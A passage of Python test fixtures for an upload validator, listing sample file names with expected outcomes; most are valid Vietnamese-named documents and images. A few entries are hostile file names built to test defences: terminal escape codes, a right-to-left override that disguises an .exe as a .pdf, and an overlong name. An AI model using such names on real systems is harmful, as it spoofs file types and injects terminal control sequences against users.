        Sample("bao\x07cao\x1b[2J.pdf", "PDF with BEL and ESC in its name", "control", SAFE, pdf),
        Sample(
            "to-trinh\u202efdp.exe.pdf", "PDF with a right-to-left override in its name", "control", SAFE, pdf
        ),
        Sample("x" * 300 + ".pdf", "PDF with a 304-character name", "name", SAFE, pdf),
        # valid controls
        Sample("Tờ trình.pdf", "valid PDF", "valid", ACCEPT, pdf),
        Sample("Ảnh minh chứng.png", "valid PNG", "valid", ACCEPT, png),
        Sample("Ảnh chụp.jpg", "valid JPEG", "valid", ACCEPT, jpeg),
        Sample("Báo cáo.docx", "valid DOCX", "valid", ACCEPT, docx),
        Sample("Bảng số liệu.xlsx", "valid XLSX", "valid", ACCEPT, lambda: xlsx(["Năm"], [[2026]])),
        # SVG is refused however plain: the emblem takes PNG or JPEG only.
        Sample("Quốc huy.svg", "valid plain SVG", "renamed", REFUSE, lambda: SVG.encode()),
    ]
    return samples


def good_date(n: int) -> datetime.date:
    return datetime.date(1960, 1, 1) + datetime.timedelta(days=n)
